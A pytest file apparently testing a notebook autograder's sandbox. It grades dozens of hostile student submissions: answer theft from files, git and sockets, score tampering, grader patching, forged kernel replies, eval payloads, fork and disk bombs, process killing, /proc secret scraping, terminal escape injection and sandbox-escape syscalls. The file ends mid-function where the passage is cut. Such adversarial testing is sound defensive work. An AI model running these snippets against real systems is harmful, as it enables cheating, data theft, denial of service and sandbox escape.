"""What a student's code can do to the machine, to scores and to others: attacks in a real round."""

from __future__ import annotations

import contextlib
import hashlib
import json
import os
import re
import shutil
import subprocess
import textwrap
import threading
from http.server import BaseHTTPRequestHandler, HTTPServer
from pathlib import Path

import pytest

import attnbook
from course.grading.judging import GENERAL
from tests.course import attacks
from tests.course.nbgrading import (
    BIN,
    PHRASE,
    ROOT,
    begin_course,
    collect,
    nbgrader,
    needs_sandbox,
    scores,
)
from tools import grade_demo, students
from tools.students import FULL, NONE

ASSIGNMENT = students.ODD_ASSIGNMENT
NOBODY = 65534
OWN = f"attnbook-test-{os.getpid()}"  # in names that all share who test on this machine
LONG = f"86399.{os.getpid()}"  # seconds

# What gets nobody a point. Each defines `stolen`, the text of an answer, if it can.
STEAL = {
    "b-finds-what-another-left": """
        import glob
        kept = ("/tmp/**", "/var/tmp/**", "/dev/shm/**", "/home/**", "/run/**")
        for path in (path for place in kept for path in glob.glob(place, recursive=True)):
            stolen = open(path).read() if path.endswith("left.py") else stolen
    """,
    "reads-the-master": """
        import glob, json
        for path in glob.glob("{repository}/course/ch*/*.ipynb") + glob.glob("{root}/source/*/*"):
            stolen += "".join("".join(c["source"]) for c in json.load(open(path))["cells"])
    """,
    "asks-git": """
        import subprocess
        show = ["git", "-C", "{repository}", "show", "HEAD:course/ch02_scaled_dot_product/tasks.py"]
        stolen = subprocess.run(show, capture_output=True, text=True, check=True).stdout
    """,
    "imports-the-judge": """
        from course.grading.judging import all_tasks
        window_mask = all_tasks()["window-mask"].reference
    """,
    "reads-another-s": """
        import glob, json
        for path in glob.glob("{root}/submitted/*/*/*.ipynb") + glob.glob("/**/*.ipynb"):
            stolen += "".join("".join(c["source"]) for c in json.load(open(path))["cells"])
    """,
    "asks-the-network": """
        import urllib.request
        stolen = urllib.request.urlopen("{address}").read().decode()
    """,
    "asks-a-socket": """
        import socket
        with socket.socket(socket.AF_UNIX) as asked:
            asked.connect("{socket}")
            stolen = asked.recv(100_000).decode()
    """,
    "changes-scores": """
        import sqlite3
        with sqlite3.connect("{root}/scores.db") as book:
            book.execute("update grade set manual_score = 20, needs_manual_grade = 0")
    """,
    "changes-the-judge": """
        import attnbook.exercises.examining as module
        for path in (module.__file__, np.__file__, "{repository}/course/grading/judging.py"):
            with open(path, "a") as file:
                file.write("\\ndef examine(*arguments): pass\\n")
    """,
    "changes-what-starts": """
        import site, sys
        for folder in (*site.getsitepackages(), sys.prefix + "/bin", "/etc", "{root}"):
            open(folder + "/usercustomize.py", "w").write("import os; os._exit(0)")
    """,
    "forges-answers": """
        import base64, json
        def forged(self, asked):
            head = json.dumps({{"kind": "one", "count": 1, "changed": [],
                                "arrays": [["part0", "<f8", [10**9]]]}}).encode()
            text = base64.b64encode(b"%08d" % len(head) + head + bytes(800)).decode()
            return {{"reply": {{"status": "ok", "data": {{"text/plain": text}}}}}}
        type(get_ipython()).user_expressions = forged
    """,
    "forges-a-long-error": """
        import base64, json
        def forged(self, asked):
            long = chr(27) + "[1mA" * 30_000
            head = json.dumps({{"error": [long[:50_000], long, True], "arrays": []}}).encode()
            text = base64.b64encode(b"%08d" % len(head) + head).decode()
            return {{"reply": {{"status": "ok", "data": {{"text/plain": text}}}}}}
        type(get_ipython()).user_expressions = forged
    """,
    "b-looks-for-keys": """
        import ctypes
        call = ctypes.CDLL(None).syscall
        found = [call(250, 10, ring, b"user", name, 0) for ring in (-3, -4, -5)
                 for name in (b"solution", b"instructor-secret")]
        found += [int(line.split()[0], 16) for line in open("/proc/keys") if " user " in line]
        for key in found:
            kept = ctypes.create_string_buffer(10_000)
            if key > 0 and call(250, 11, key, kept, 10_000) > 0:
                stolen = kept.value.decode()
    """,
    "sends-what-is-no-answer": """
        type(get_ipython()).user_expressions = lambda self, asked: {{"reply": [[[]]]}}
    """,
    "sends-too-much": """
        large = {{"reply": {{"status": "ok", "data": {{"text/plain": "A" * 10**8}}}}}}
        type(get_ipython()).user_expressions = lambda self, asked: large
    """,
    "forges-a-change": """
        import base64, json
        def forged(self, asked):
            head = json.dumps({{"kind": "one", "count": 1, "changed": [0, 1], "arrays": [
                ["part0", "|b1", [1]], ["changed0", "<f8", [1]], ["changed1", "<f8", [1]]]}})
            text = base64.b64encode(b"%08d" % len(head) + head.encode() + bytes(17)).decode()
            return {{"reply": {{"status": "ok", "data": {{"text/plain": text}}}}}}
        type(get_ipython()).user_expressions = forged
    """,
    "lies-about-itself": """
        class Lies(np.ndarray):
            shape, dtype = (10**9, 0), np.dtype(bool)
            __eq__ = __ne__ = __array_ufunc__ = __array_function__ = lambda *_, **__: True
            __array_interface__ = property(lambda self: {{"version": 3}})
        def window_mask(length, window):
            return np.zeros((length, length), bool).view(Lies)
        def entropy_weights(scores, wanted):
            return np.ma.masked_array(np.zeros((len(scores), len(scores))), True)
        np.allclose = np.array_equal = np.isclose = lambda *_, **__: True
        np.asarray = lambda *_, **__: 1 / 0
    """,
    "raises-odd-errors": r"""
        class KeyboardInterrupt(BaseException):
            __str__ = lambda self: [][0]
        def window_mask(length, window):
            raise BaseExceptionGroup("\ud800 \0 \x1b[2J <script>", [SystemExit(), GeneratorExit()])
        def entropy_weights(scores, wanted):
            raise KeyboardInterrupt
        errors, enough = [[1], {{2: [3]}}], StopIteration
    """,
    "kills-all": """
        import os
        def window_mask(length, window):
            os.kill(-1, 9)
    """,
    "dies-of-its-limit": """
        import resource, os
        def window_mask(length, window):
            os.kill(os.getpid(), 11)
    """,
    "is-a-pickle": """
        class Bomb:
            def __reduce__(self):
                return eval, ("__import__('os').system('touch {root}/owned')",)
        def window_mask(length, window):
            return Bomb()
        Bomb.__array__ = lambda self, *_, **__: np.array([Bomb()], dtype=object)
    """,
}
# What costs others nothing, and its own student neither, who is right before. `said` is printed.
HARM = {
    "a-leaves-its-work": """
        for place in ("/tmp", "/var/tmp", "/dev/shm", "/home/student"):
            open(place + "/left.py", "w").write(In[-1])
    """,
    "a-leaves-a-key": """
        import ctypes
        call = ctypes.CDLL(None).syscall
        text = In[-1].encode()[:4000]
        for ring in (-3, -4, -5):
            said.append(call(248, b"user", b"solution", text, len(text), ring) > 0)
            call(250, 5, call(250, 10, ring, b"user", b"solution", 0), 0x3F3F3F3F)
    """,
    "looks-for-modules": """
        import glob, os, subprocess, sys
        for place in ("/home/student", "/tmp"):
            open(place + "/numpy.py", "w").write("print('mine')")
        run = [sys.executable, "-c", "import numpy; print(numpy.__file__)"]
        said.append(subprocess.run(run, capture_output=True, text=True).stdout.strip())
        said += [*map(os.path.isdir, glob.glob("/home/student/*"))]
    """,
    "colours": r"""
        print("\x1b[1mA" * 120_000, "\x1b]8;;javascript:1\x07link\r\x08\x9b1m")
        for number in range(2_000):
            print(number)
    """,
    "many-outputs": """
        from IPython.display import display, update_display
        shown = display("once", display_id="one")
        for number in range(300):
            display({{"text/plain": "x" * 400, "text/html": "<b>"}}, raw=True)
        for _ in range(12):
            update_display({{"text/plain": "y" * 10**6}}, display_id="one", raw=True)
    """,
    "a-long-error": """
        from IPython.core.magic import register_line_magic
        class Long(Exception):
            def __str__(self):
                return chr(27) + "[31m" + "z" * 5_000_000
        kernel = get_ipython().kernel
        about = {{"ename": "E" * 10**6, "evalue": "e" * 10**6, "traceback": ["t" * 10**6] * 3}}
        kernel.session.send(kernel.iopub_socket, "error", about, parent=kernel.get_parent())
    """,
    "speaks-under-others": """
        import threading, time
        kernel = get_ipython().kernel
        def speak():
            for _ in range(200):
                time.sleep(0.01)
                about = {{"name": "stdout", "text": "SPOOFED"}}
                parent = kernel.get_parent()
                kernel.session.send(kernel.iopub_socket, "stream", about, parent=parent)
        threading.Thread(target=speak, daemon=True).start()
    """,
    "many-files": """
        for number in range(20_000):
            open(f"/tmp/{{number}}", "w").close()
    """,
    "pictures": """
        import base64, struct
        from IPython.display import display
        head = b"\\x89PNG\\r\\n\\x1a\\n\\0\\0\\0\\rIHDR" + struct.pack(">II", 60_000, 60_000)
        head += b"\\x08\\2" + bytes(30)
        for kind in ("image/png", "image/jpeg", "image/gif", "image/bmp", "image/webp"):
            display({{kind: base64.b64encode(head).decode()}}, raw=True)
        nested = '<svg xmlns="http://www.w3.org/2000/svg"><g id="a"/><use href="#a"/></svg>'
        display({{"image/svg+xml": nested}}, raw=True)
    """,
    "fills-disks": """
        import glob, os
        sockets = glob.glob("/tmp/kernel-*")
        said.append(sockets)
        places = ("/tmp", "/var/tmp", "/dev/shm", "/home/student", "/run", "/dev", *sockets)
        for place in places:
            for number in range(4):
                try:
                    with open(f"{{place}}/large-{{number}}", "wb") as file:
                        for _ in range(120):
                            file.write(bytes(2**20))
                except OSError as error:
                    said.append(type(error).__name__)
    """,
    "fills-memory": """
        try:
            held = [np.empty(2**25) for _ in range(1000)]
        except MemoryError:
            said.append("no more")
        held = None
    """,
    "forks": """
        import os, time
        try:
            for _ in range(500):
                if not os.fork():
                    time.sleep(600)
        except BlockingIOError:
            said.append("no more")
    """,
    "stays": """
        import subprocess
        for command in (["sleep", "{long}"], ["setsid", "nohup", "sleep", "{long}"]):
            subprocess.Popen(command, start_new_session=True)
        said.append("begun")
    """,
    "holds-what-is-open": """
        import os
        for number in os.listdir("/proc/self/fd"):
            try:
                said.append(os.readlink(f"/proc/self/fd/{{number}}").partition(":")[0])
            except OSError:
                pass
    """,
    "asks-other-sockets": """
        import socket
        for kind, place in (
            (socket.AF_UNIX, "\\0{own}"), (socket.AF_INET6, ("::1", {port})),
            (socket.AF_INET, ("127.0.0.1", {port})), (socket.AF_INET, ("169.254.169.254", 80)),
            (socket.AF_VSOCK, (2, 22)),
        ):
            try:
                with socket.socket(kind) as asked:
                    asked.settimeout(1)
                    asked.connect(place)
                said.append(str(place))
            except OSError:
                pass
        for kind in ((socket.AF_INET, socket.SOCK_RAW, 1), (socket.AF_PACKET, socket.SOCK_RAW, 3)):
            try:
                socket.socket(*kind)
                said.append(str(kind))
            except OSError:
                pass
    """,
    "asks-the-teacher": """
        import getpass
        for ask in (input, getpass.getpass):
            try:
                ask("your password")
            except Exception as error:
                said.append(type(error).__name__)
        shell = get_ipython()
        shell.set_next_input("window_mask = None", replace=True)
        shell.payload_manager.write_payload({{"source": "page", "data": {{"text/plain": "x"}}}})
        shell.run_cell_magic("javascript", "", "window.owned = 1")
        kernel = shell.kernel
        kernel.session.send(kernel.stdin_socket, "input_request", {{"prompt": "x"}},
                            parent=kernel.get_parent(), ident=kernel._parent_ident["shell"])
    """,
    "signals": """
        import os, signal
        for number in (1, os.getppid()):
            for sent in (signal.SIGINT, signal.SIGSTOP, signal.SIGKILL):
                try:
                    os.kill(number, sent)
                except OSError:
                    pass
        said.append([name for name in os.listdir("/proc") if name.isdigit() and int(name) > 99])
    """,
    "looks-around": """
        import glob, os, sys
        for path in glob.glob("/proc/*/environ") + glob.glob("/proc/*/cmdline"):
            try:
                said.append(open(path, "rb").read().decode(errors="replace"))
            except OSError:
                pass
        said.append([*os.environ.values()])
        for top in ("{repository}", "{root}", "/root", "/home", "/etc", "/run", "/var", "/srv"):
            for place, folders, files in os.walk(top):
                if place.startswith((sys.prefix, sys.base_prefix)):
                    folders.clear()
                else:
                    said += [os.path.join(place, name) for name in files]
        said.append([path for path in ("/sys", "/dev/sda", "/dev/vda") if os.path.exists(path)])
    """,
    "breaks-out": """
        import ctypes, os, subprocess
        libc = ctypes.CDLL(None, use_errno=True)
        tried = {{
            "namespace": lambda: libc.unshare(0x10000000),
            "mount": lambda: libc.mount(b"none", b"/tmp", b"tmpfs", 0, None),
            "remount": lambda: libc.mount(b"none", b"/", None, 32, None),
            "unmount": lambda: libc.umount2(b"/proc", 2),
            "root": lambda: libc.setuid(0),
            "chroot": lambda: libc.chroot(b"/tmp"),
            "host": lambda: libc.sethostname(b"x", 1),
            "tree": lambda: libc.syscall(428, -100, b"/", 1),
            "file system": lambda: libc.syscall(430, b"tmpfs", 0),
            "pivot": lambda: libc.syscall(155, b"/tmp", b"/tmp"),
            "namespaces": lambda: libc.setns(os.open("/proc/1/ns/mnt", os.O_RDONLY), 0),
            "bpf": lambda: libc.syscall(321, 0, (ctypes.c_int * 12)(1, 4, 4, 1), 48),
            "priority": lambda: libc.setpriority(0, 0, -5),
            "keyboard": lambda: libc.ioctl(0, 0x5412, b"x"),
        }}
        for name, attempt in tried.items():
            said += [name] if attempt() >= 0 else []
        for path in ("/proc/sys/kernel/core_pattern", "/proc/sysrq-trigger", "/dev/kmsg",
                     "/dev/mem", "/proc/1/root/x", "/proc/1/mem", "/proc/self/oom_score_adj"):
            try:
                with open(path, "w") as file:
                    file.write("-1000")
                said.append(path)
            except OSError:
                pass
        rights = [line.split()[1] for path in ("/proc/1/status", "/proc/self/status")
                  for line in open(path) if line.startswith("Cap")]
        said += sorted({{*rights}} - {{"0" * 16}})
        for command in (["su", "-c", "id"], ["sudo", "-n", "id"], ["unshare", "-Ur", "id"]):
            try:
                said += command if subprocess.run(command).returncode == 0 else []
            except OSError:
                pass
    """,
    "writes-to-the-terminal": r"""
        import os
        for path in ("/dev/tty", "/proc/1/fd/1", "/proc/1/fd/2", "/dev/console"):
            try:
                open(path, "w").write("\x1b]0;owned\x07 OWNED")
            except OSError:
                pass
        os.write(2, b"OWNED")
        os.write(int(1), b"OWNED")
    """,
    "floods-with-messages": """
        kernel = get_ipython().kernel
        parent = kernel.get_parent()
        def send(kind, content):
            kernel.session.send(kernel.iopub_socket, kind, content, parent=parent)
        odd = {{"data": 5, "transient": {{"display_id": []}}}}
        for content in ({{}}, {{"execution_state": 5}}, odd):
            for kind in ("status", "display_data", "update_display_data", "comm_open"):
                send(kind, content)
        for _ in range(3000):
            send("comm_msg", {{"data": "x" * 999}})
    """,
}
SHOWS = """
import matplotlib.pyplot as plt
from IPython.display import Markdown, clear_output, display, update_display
right, shown = entropy_weights, display("begun", display_id=True)
def entropy_weights(scores, wanted):
    print("working")
    clear_output(wait=True)
    again = display(Markdown("*weights*"), display_id="again")
    again.update(Markdown("**weights**"))
    update_display(wanted, display_id=shown.display_id)
    plt.plot(right(scores, wanted))
    plt.show()
    clear_output()
    return right(scores, wanted)
shown.update("done")
clear_output(wait=True)
entropy_weights(np.eye(3), 0.5)
"""


def stealing(code):
    def make(assignment):
        deed = "import numpy as np\nstolen = ''\ntry:\n" + textwrap.indent(code, "    ")
        take = "except Exception as error:\n    print(repr(error))\nexec(stolen)\n"
        return {assignment.first: f"{deed}\n{take}"}

    return make


def harming(code):
    def make(assignment):
        first = assignment.solutions[assignment.first]
        return assignment.solutions | {
            assignment.first: f"{first}\n\nsaid = []\n{code}\n"
            "import json\nprint(json.dumps(said))\n"
        }

    return make


def shows(assignment):
    return assignment.solutions | {
        assignment.second: f"{assignment.solutions[assignment.second]}\n{SHOWS}"
    }


def tells(assignment):
    """Be right on examples; called with the class's data, tell them by an error."""
    first, second = assignment.solutions[assignment.first], assignment.solutions[assignment.second]
    wrap = """
right, seen, late = {name}, globals().get("seen", []), globals().get("late", [])
def {name}(*arguments):
    seen.append(arguments)
    {deed}
    if len(late) > {after}:
        raise type("Seen" + str(len(seen)), (Exception,), {{}})(f"SEEN {{seen}}")
    return right_{name}(*arguments)
right_{name} = right
print("SEEN so far", seen)
"""
    return assignment.solutions | {
        assignment.first: first + wrap.format(name="window_mask", deed="", after=0),
        assignment.second: second
        + wrap.format(name="entropy_weights", deed="late.append(1)", after=50),
        assignment.third: f"{assignment.solutions[assignment.third]}\nprint('SEEN so far', seen)",
    }


def tells_by_its_end(assignment):
    """Be right on examples; called with the class's data, tell a number of them by an exit."""
    first, second = assignment.solutions[assignment.first], assignment.solutions[assignment.second]
    tell = """
import os
right, late = window_mask, []
def window_mask(length, window):
    if late:
        os._exit(100 + length)
    return right(length, window)
"""
    note = second.replace("    ", "    late.append(1)\n    ", 1)
    return assignment.solutions | {assignment.first: first + tell, assignment.second: note}


def of_many_parts(assignment):
    """Send a message of many parts, each as large as it may be, in the third task."""
    parts = "kernel.iopub_thread.socket.send_multipart([b'x' * 8_000_000] * 120)"
    code = f"kernel = get_ipython().kernel\n{parts}\nimport time\ntime.sleep(600)"
    return assignment.solutions | {assignment.third: code}


def updates_what_was_shown(assignment):
    """Put into the outputs of a cell, when they are done, what would run and what is long."""
    begin = "\nfrom IPython.display import display, update_display\n"
    begin += "print('one')\ndisplay('two', display_id='two')\ndisplay('three', display_id='three')"
    later = "\nupdate_display({'text/html': '<script>window.owned=1</script>', 'image/svg+xml': 5,"
    later += "\n'text/plain': ['z' * 400_000, 5]}, display_id='two', raw=True)"
    later += "\nupdate_display({'application/javascript': 'owned'}, display_id='three', raw=True)"
    first, second = assignment.first, assignment.second
    return assignment.solutions | {
        first: assignment.solutions[first] + begin, second: assignment.solutions[second] + later
    }  # fmt: skip


def slow_to_show(assignment):
    """Write what takes long to draw, as long as it may be."""
    return assignment.solutions | {
        assignment.first: f"{assignment.solutions[assignment.first]}\n# {'a.' * 2500}",
        assignment.third: f"{assignment.solutions[assignment.third]}\n# {'(' * 5000}",
        attacks.TEXT: "\\\\[" * 2300,
    }


OTHERS = {
    "shows": shows, "tells": tells, "tells-by-its-end": tells_by_its_end,
    "of-many-parts": of_many_parts, "slow-to-show": slow_to_show,
    "updates-what-was-shown": updates_what_was_shown,
}  # fmt: skip
HONEST = ("honest-1", "honest-2", "zz-perfect")
# Whose outputs are large.
SHOWN = (
    "colours",
    "many-outputs",
    "a-long-error",
    "pictures",
    "slow-to-show",
    "forges-a-long-error",
    "updates-what-was-shown",
)


class Answers(BaseHTTPRequestHandler):
    """A server with the answers, which students' code must not reach."""

    def do_GET(self):
        self.send_response(200)
        self.end_headers()
        self.wfile.write(ANSWER.encode())
        self.server.asked = True


ANSWER = students.ASSIGNMENTS[ASSIGNMENT].solutions["window-mask"]
KEPT = [Path(attnbook.__file__).parent, ROOT / "course" / "grading"]


def fingerprint():
    """Return what would differ if somebody changed the code that grades."""
    paths = sorted(path for folder in KEPT for path in folder.rglob("*.py"))
    return hashlib.sha256(b"".join(path.read_bytes() for path in paths)).hexdigest()


def alive(words):
    """Return the processes that have words in their command, dead ones left out."""
    found = []
    for path in Path("/proc").glob("[0-9]*/cmdline"):
        with contextlib.suppress(OSError):
            found += [path] if words.encode() in path.read_bytes() else []
    return found


@pytest.fixture(scope="module")
def played(tmp_path_factory):
    """Play the round; return its folder, what nbgrader said, and the scores."""
    needs_sandbox()
    root = tmp_path_factory.mktemp("course")
    (root / "class-phrase.txt").write_text(PHRASE)
    begin_course(root, ASSIGNMENT)
    server = HTTPServer(("127.0.0.1", 0), Answers)
    server.asked = False
    threading.Thread(target=server.serve_forever, daemon=True).start()
    socket = f"/tmp/{OWN}.socket"
    tell = f"import socket as s; a = s.socket(s.AF_UNIX); a.bind({socket!r}); a.listen()"
    tell += f"\nb = s.socket(s.AF_UNIX); b.bind('\\0{OWN}'); b.listen()"
    tell += f"\nwhile 1: a.accept()[0].send({ANSWER!r}.encode())"
    # It runs as a sandbox does, so that signals could reach it.
    options = {"user": NOBODY, "group": NOBODY} if os.geteuid() == 0 else {}
    canary = subprocess.Popen(["/usr/bin/python3", "-c", tell], cwd="/", **options)
    places = {
        "repository": str(ROOT),
        "root": str(root),
        "address": f"http://127.0.0.1:{server.server_port}",
        "port": server.server_port,
        "socket": socket,
        "own": OWN,
        "long": LONG,
    }
    for played_by, how in ((STEAL, stealing), (HARM, harming)):
        for name, code in played_by.items():
            raw = code if name == "writes-to-the-terminal" else code.format(**places)
            grade_demo.hand_in(root, name, ASSIGNMENT, how(textwrap.dedent(raw)))
    for name, how in OTHERS.items():
        grade_demo.hand_in(root, name, ASSIGNMENT, how)
    for name in HONEST:
        grade_demo.hand_in(root, name, ASSIGNMENT, students.perfect)
    before = fingerprint()
    try:
        collect(root, ASSIGNMENT)
        said = nbgrader(root, "autograde", ASSIGNMENT)
        for student in SHOWN:
            nbgrader(root, "generate_feedback", ASSIGNMENT, f"--student={student}")
        found = {"asked": server.asked, "canary": canary.poll(), "code": fingerprint() == before}
    finally:
        server.shutdown()
        server.server_close()
        canary.kill()
        canary.wait()
        os.unlink(socket)
    return root, said, scores(root, ASSIGNMENT), found


def printed(root, student):
    """Return what a student's code printed as JSON."""
    path = root / "autograded" / student / ASSIGNMENT / f"{ASSIGNMENT}.ipynb"
    texts = [
        "".join(output.get("text", ""))
        for cell in json.loads(path.read_text())["cells"]
        for output in cell.get("outputs", [])
        if students.role(cell).get("grade_id") == "window-mask" and output.get("name") == "stdout"
    ]
    return json.loads("".join(texts).splitlines()[-1])


@pytest.mark.parametrize("student", STEAL)
def test_an_attack_gets_no_points(student, played):
    assert played[2][student][:4] == NONE


@pytest.mark.parametrize(
    "student", [*HARM, "shows", "slow-to-show", "updates-what-was-shown", *HONEST]
)
def test_an_attack_costs_no_points(student, played):
    assert played[2][student][:4] == FULL


def graded(root, student):
    return (root / "autograded" / student / ASSIGNMENT / f"{ASSIGNMENT}.ipynb").read_text()


def test_the_class_s_data_are_told_to_nobody(played):
    text = graded(played[0], "tells")
    assert played[2]["tells"][:4] == NONE._replace(second=5, measured=3, read=2)
    cells = [cell for cell in json.loads(text)["cells"] if cell["cell_type"] == "code"]
    outputs = [output for cell in cells for output in cell["outputs"]]
    told = [output["evalue"] for output in outputs if output["output_type"] == "error"]
    assert [each.partition(",")[0] for each in told] == ["this is right on our examples"]
    # What it prints it prints before.
    printed = ["".join(output.get("text", "")) for output in outputs]
    printed = [text for text in printed if text.startswith("SEEN so far")]
    assert len(printed) == 3
    assert all(len(each) < 5_000 for each in printed)


def test_of_the_class_s_data_nothing_is_told_by_how_a_kernel_ends(played):
    text = graded(played[0], "tells-by-its-end")
    assert played[2]["tells-by-its-end"][:4] == FULL._replace(first=0)
    cells = [cell for cell in json.loads(text)["cells"] if cell["cell_type"] == "code"]
    told = [each for cell in cells for each in cell["outputs"] if each["output_type"] == "error"]
    assert [each["evalue"] for each in told] == [GENERAL["not_on_yours"]]
    assert [each["traceback"] for each in told] == [[GENERAL["not_on_yours"]]]


def test_a_message_of_many_parts_ends_its_own_kernel(played):
    assert played[2]["of-many-parts"][:4] == FULL._replace(measured=0, read=0)
    assert "the kernel was killed" in graded(played[0], "of-many-parts")


@pytest.mark.parametrize("student", SHOWN)
def test_what_is_shown_is_bounded(student, played):
    notebook = json.loads(graded(played[0], student))
    for cell in notebook["cells"]:
        outputs = cell.get("outputs", [])
        text = json.dumps(outputs)
        assert len(outputs) <= 50
        assert len(text) < 40_000
        assert text.count("\\n") < 600
        assert not re.search(r"\\u001b|\\u009b|\\b|\\r|image/(?!png)|html|javascript|owned", text)
    page = played[0] / "feedback" / student / ASSIGNMENT / f"{ASSIGNMENT}.html"
    assert page.stat().st_size < 1_500_000


def test_no_picture_that_fills_a_memory_is_shown(played):
    notebook = json.loads(graded(played[0], "pictures"))
    outputs = [output for cell in notebook["cells"] for output in cell.get("outputs", [])]
    assert not any("image" in kind for output in outputs for kind in output.get("data", {}))


def test_a_key_that_one_leaves_is_its_own(played):
    assert printed(played[0], "a-leaves-a-key")[0]  # it could


def test_no_file_of_a_student_s_is_a_module(played):
    module, *_ = printed(played[0], "looks-for-modules")
    assert module.endswith("site-packages/numpy/__init__.py")


def test_the_folder_of_the_sockets_is_gone(played):
    sockets, *_ = printed(played[0], "fills-disks")
    assert not any(map(os.path.exists, sockets))


def test_nothing_outside_was_reached(played):
    assert played[3] == {"asked": False, "canary": None, "code": True}
    assert not (played[0] / "owned").exists()


def test_nothing_is_left_running(played):
    assert not alive(f"sleep\0{LONG}")
    assert not alive(str(played[0]))


def test_disks_are_full_at_last_and_no_other_is_written_to(played):
    _, *said = printed(played[0], "fills-disks")
    assert said.count("OSError") >= 5
    assert "FileNotFoundError" in said  # /run, and the sockets' folder


def test_memory_and_processes_are_limited(played):
    assert printed(played[0], "fills-memory") == ["no more"]
    assert printed(played[0], "forks") == ["no more"]


def test_no_process_but_its_own_is_seen(played):
    assert printed(played[0], "signals") == [[]]


def test_a_student_s_code_sees_nothing_of_the_course(played):
    *files, devices = printed(played[0], "looks-around")
    text = json.dumps(files)
    assert PHRASE not in text
    assert "class-phrase" not in text
    assert "scores.db" not in text
    assert devices == []
    seen = [path for path in files if isinstance(path, str) and "\0" not in path]
    own = ("/etc/ld.so.cache", "/home/student/")
    assert [path for path in seen if path.startswith("/") and not path.startswith(own)] == []


def test_nothing_breaks_out(played):
    assert printed(played[0], "breaks-out") == []
    assert printed(played[0], "asks-other-sockets") == []


def test_no_file_of_the_grader_s_is_open_there(played):
    found = set(printed(played[0], "holds-what-is-open"))
    assert {"socket", "anon_inode"} <= found
    assert {path for path in found if path.startswith("/")} <= {"/dev/null", "/dev/urandom"}


def test_nobody_is_asked_for_anything(played):
    assert printed(played[0], "asks-the-teacher") == ["StdinNotImplementedError"] * 2
    assert "window.owned" not in graded(played[0], "asks-the-teacher").partition("said = []")[0]


def test_the_terminal_stays_the_grader_s(played):
    assert "OWNED" not in played[1]
    assert "\x1b]0" not in played[1]


# No sandbox


@pytest.fixture(scope="module")
def refused(tmp_path_factory):
    root = tmp_path_factory.mktemp("course")
    begin_course(root, ASSIGNMENT)
    grade_demo.hand_in(root, "perfect", ASSIGNMENT, students.perfect)
    collect(root, ASSIGNMENT)
    return root, nbgrader(root, "autograde", ASSIGNMENT, fails=True, path=str(BIN))


def test_without_a_sandbox_nothing_is_graded_and_what_to_install_is_said(refused):
    root, said = refused
    told = said.partition("ERROR] ")[2].splitlines()
    assert (
        told[0]
        == "Nothing is graded: install bubblewrap 0.8 or newer (apt-get install bubblewrap)."
    )
    assert "--JudgedExecute.run_student_code_unconfined=True" in said
    assert not list((root / "autograded").glob("*/*/*.ipynb"))
    assert {*scores(root, ASSIGNMENT).get("perfect", ())} <= {None}


def test_only_a_flag_that_names_the_risk_grades_without_a_sandbox(refused):
    flag = "--JudgedExecute.run_student_code_unconfined=True"
    nbgrader(refused[0], "autograde", ASSIGNMENT, flag, path=str(BIN))
    assert scores(refused[0], ASSIGNMENT)["perfect"][:4] == FULL


# Settings that do not load


@pytest.mark.parametrize(
    ("broken", "told"),
    [
        ("import no_such_module", "No module named 'no_such_module'"),
        ("settle(c, root", "No assignment with ID"),  # the file itself cannot be read
    ],
)
def test_where_the_settings_do_not_load_nothing_is_graded(broken, told, refused):
    root = refused[0]
    settings = root / "nbgrader_config.py"
    right = settings.read_text()
    before = scores(root, ASSIGNMENT)
    settings.write_text(right.replace("    settle(c,", f"    {broken}\n    settle(c,"))
    try:
        said = nbgrader(root, "autograde", ASSIGNMENT, "--force", fails=True)
    finally:
        settings.write_text(right)
    assert told in said
    assert scores(root, ASSIGNMENT) == before


# nbgrader's own ways of collecting


@pytest.mark.parametrize("command", ["collect", "zip_collect"])
def test_nbgrader_s_own_collecting_says_what_collects(command, refused):
    root = refused[0]
    (root / "exchange" / "attention" / "inbound").mkdir(parents=True, exist_ok=True)
    (root / "downloaded" / ASSIGNMENT / "archive").mkdir(parents=True, exist_ok=True)
    options = ["--force"] if command == "zip_collect" else [f"--Exchange.root={root}/exchange"]
    assert "use make collect" in nbgrader(root, command, ASSIGNMENT, *options, fails=True)
    assert [path.name for path in (root / "submitted").iterdir()] == ["perfect"]


def test_what_did_not_come_by_the_door_is_not_graded(refused):
    root = refused[0]
    folder = root / "submitted" / "other" / ASSIGNMENT
    folder.mkdir(parents=True)
    made = root / "submitted/perfect" / ASSIGNMENT / f"{ASSIGNMENT}.ipynb"
    (folder / f"{ASSIGNMENT}.ipynb").write_bytes(made.read_bytes())
    try:
        said = nbgrader(root, "autograde", ASSIGNMENT, "--student=other", fails=True)
    finally:
        shutil.rmtree(root / "submitted" / "other")
    assert f"{folder} was not put there by make collect" in said
    assert not (root / "autograded" / "other" / ASSIGNMENT).exists()


# A cgroup, where systemd gives one


def test_what_systemd_can_limit_it_is_asked_to(tmp_path):
    needs_sandbox()
    played = tmp_path / "systemd-run"
    played.write_text(
        f'#!/bin/sh\n(echo "$@" | tr "\\n" " "; echo) >> {tmp_path}/asked\n'
        'while [ "$1" != -- ]; do shift; done\nshift\nexec "$@"\n'
    )
    played.chmod(0o755)
    asks = "from course.grading import sandbox; print(sandbox.why_not())"
    settings = {"PATH": f"{tmp_path}:/usr/bin:/bin", "PYTHONPATH": str(ROOT)}
    done = subprocess.run(
        [BIN / "python", "-c", asks], env=settings, capture_output=True, text=True, check=True
    )
    assert done.stdout == "None\n"
    probe, kernel = (tmp_path / "asked").read_text().splitlines()
    for line in (probe, kernel):
        assert "--scope" in line
        assert "MemoryMax=4294967296" in line
        assert "TasksMax=400" in line
    assert "bwrap" in kernel


GROUPS = Path("/sys/fs/cgroup/memory")  # where they are files that root may write
PLAYED = f"""#!/bin/sh
group={GROUPS}/{OWN}-$$
mkdir $group && echo 700000000 > $group/memory.limit_in_bytes && echo $$ > $group/cgroup.procs
while [ "$1" != -- ]; do shift; done
shift
exec "$@"
"""


def test_in_a_cgroup_memory_without_an_address_ends_its_own_kernel(tmp_path):
    """Play systemd by a group of 700 MB, of which a kernel needs a part."""
    needs_sandbox()
    if os.geteuid() or not (GROUPS / "memory.limit_in_bytes").exists():
        pytest.skip("groups cannot be made here")
    (tmp_path / "bin").mkdir()
    (tmp_path / "bin" / "systemd-run").write_text(PLAYED)
    (tmp_path / "bin" / "systemd-run").chmod(0o755)
    begin_course(tmp_path, ASSIGNMENT)

    def hoards(assignment):
        code = "\nimport os\nheld = [os.memfd_create('x') for _ in range(8)]\n"
        code += "for file in held * 200:\n    os.write(file, bytes(2**20))\n"
        return assignment.solutions | {
            assignment.third: assignment.solutions[assignment.third] + code
        }

    for name, make in (("a", students.perfect), ("b", hoards), ("c", students.perfect)):
        grade_demo.hand_in(tmp_path, name, ASSIGNMENT, make)
    try:
        collect(tmp_path, ASSIGNMENT)
